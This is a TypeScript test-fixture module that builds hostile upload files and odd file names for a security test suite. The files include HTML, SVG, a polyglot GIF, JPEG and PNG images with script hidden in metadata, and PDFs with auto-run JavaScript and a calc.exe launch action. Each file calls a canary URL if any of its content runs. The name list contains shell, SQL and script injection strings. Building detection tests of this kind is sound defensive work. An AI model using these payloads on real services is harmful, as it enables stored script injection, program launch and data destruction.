import sharp from 'sharp'

import { pngSaying } from './malware.js'

export interface Taken {
  readonly make: () => Buffer | Promise<Buffer>
  readonly name: string
  readonly number: string
  /** What it is served as. */
  readonly type: string
  readonly what: string
}

/** What would call its canary, if anything of it ran or were loaded. */
export const attack = (canary: string): string =>
  `<script src="${canary}/script.js"></script><script>fetch("${canary}/ran")</script>` +
  `<img src="${canary}/image.png" onerror="fetch('${canary}/error')"><link rel=stylesheet href="${canary}/a.css">`

const svg = (canary: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${canary}/load')">` +
  `<style>@import url(${canary}/import.css);</style><image href="${canary}/image.png"/><use xlink:href="${canary}/use.svg#a"/>` +
  `<a href="javascript:fetch('${canary}/href')"><animate attributeName="href" values="javascript:fetch('${canary}/a')"/></a>` +
  `<foreignObject>${attack(canary)}</foreignObject><![CDATA[<script>fetch('${canary}/cdata')</script>]]></svg>`

/** A paper that runs a script, launches a program and sends itself, in readers that do so. */
const activePDF = (canary: string): Buffer =>
  Buffer.from(
    [
      '%PDF-1.7',
      '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>/Names<</EmbeddedFiles<</Names[(a.js) 6 0 R]>>>>>>endobj',
      '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
      '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>endobj',
      `4 0 obj<</S/JavaScript/JS(app.launchURL("${canary}/pdf", true);this.submitForm("${canary}/form"))>>endobj`,
      '5 0 obj<</S/Launch/F(calc.exe)>>endobj',
      '6 0 obj<</Type/Filespec/F(a.js)>>endobj',
      'trailer<</Root 1 0 R>>',
      '%%EOF\n',
    ].join('\n'),
  )

/** A picture that is a script as well: GIF89a is a name, and the rest of it a comment. */
const gifScript = async (canary: string): Promise<Buffer> => {
  const gif = await sharp({ create: { background: 'red', channels: 3, height: 10_799, width: 8 } })
    .resize(8, 8)
    .gif()
    .toBuffer()
  return Buffer.concat([gif, Buffer.from(`*/=1;fetch("${canary}/gif")//`)])
}

const jpegSaying = async (words: string): Promise<Buffer> => {
  const jpeg = await sharp({ create: { background: 'red', channels: 3, height: 64, width: 64 } })
    .withExif({
      IFD3: { GPSLatitude: '51/1 30/1 0/1' },
      IFD0: { Copyright: words, ImageDescription: 'hidden-exif' },
    })
    .jpeg()
    .toBuffer()
  const comment = Buffer.from(words)
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(comment.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)])
}

/** Files that may come in although something active is in them: how they are served has to be harmless. */
export const activeContent = (canary: string): readonly Taken[] => {
  const page = Buffer.from(`<!doctype html><html><body>${attack(canary)}</body></html>`)
  const make = (bytes: Buffer) => () => bytes
  return [
    {
      make: make(page),
      name: 'a.txt',
      number: 'B24',
      type: 'text/plain',
      what: 'a page named text',
    },
    {
      make: make(Buffer.from(svg(canary))),
      name: 'a.txt',
      number: 'B22',
      type: 'text/plain',
      what: 'a drawing named text',
    },
    {
      make: make(Buffer.from(`<?import namespace="x" implementation="${canary}/x">${svg(canary)}`)),
      name: 'b.txt',
      number: 'B23',
      type: 'text/plain',
      what: 'a drawing that loads others, named text',
    },
    {
      make: () => gifScript(canary),
      name: 'a.gif',
      number: 'B25',
      type: 'image/gif',
      what: 'a GIF and script',
    },
    {
      make: () => jpegSaying(attack(canary)),
      name: 'a.jpg',
      number: 'B27',
      type: 'image/jpeg',
      what: 'a JPEG with a page in its comment and EXIF',
    },
    {
      make: () => pngSaying(attack(canary)),
      name: 'a.png',
      number: 'B25',
      type: 'image/png',
      what: 'a PNG with a page in its words',
    },
    {
      make: make(Buffer.concat([activePDF(canary), page])),
      name: 'a.pdf',
      number: 'B25',
      type: 'application/pdf',
      what: 'a paper with a page behind it',
    },
    {
      make: make(activePDF(canary)),
      name: 'b.pdf',
      number: 'B26',
      type: 'application/pdf',
      what: 'a paper with a script, a program and a file',
    },
  ]
}

/** Odd names that are kept as they are. */
export const goodNames: readonly (readonly [number: string, what: string, name: string])[] = [
  ['B02', 'percent signs', '%2e%2e%2fa %252e 100%.pdf'],
  ['B02', 'an encoded NUL', 'a.php%00.pdf'],
  ['B04', '200 characters', `${'x'.repeat(196)}.pdf`],
  ['B04', '250 bytes of emoji', `${'🦦'.repeat(61)}.pdf`],
  ['B06', 'a slash of fractions', 'a⁄b.pdf'],
  ['B07', 'accents apart', 'Cafe\u0301.pdf'],
  ['B07', 'accents in one', 'Caf\u00e9.pdf'],
  ['B07', 'a dotted capital I', 'İ.pdf'],
  ['B07', 'a sharp s', 'Straße STRASSE.pdf'],
  ['B07', 'Cyrillic look-alikes', 'раураl.pdf'],
  ['B08', 'what a shell reads', '$(id); `ls` | rm -rf ~ & #.pdf'],
  ['B08', 'an option', '-rf.pdf'],
  ['B08', 'what a browser reads', '<script>alert(1)<script>.pdf'],
  ['B08', 'what a database reads', `Robert'); DROP TABLE media;--.pdf`],
  ['B09', 'a leading dot', '.hidden.pdf'],
  ['B10', 'several extensions', 'shell.php.jpg.pdf'],
  ['B10', 'capitals', 'PAPER.PDF'],
  ['B11', 'quotes', `it's "quoted".pdf`],
  ['B11', '8-bit letters', 'naïve ÿ.pdf'],
  ['B11', 'Hebrew', 'שלום עולם.pdf'],
  ['B11', 'Japanese', '日本語の書類.pdf'],
]
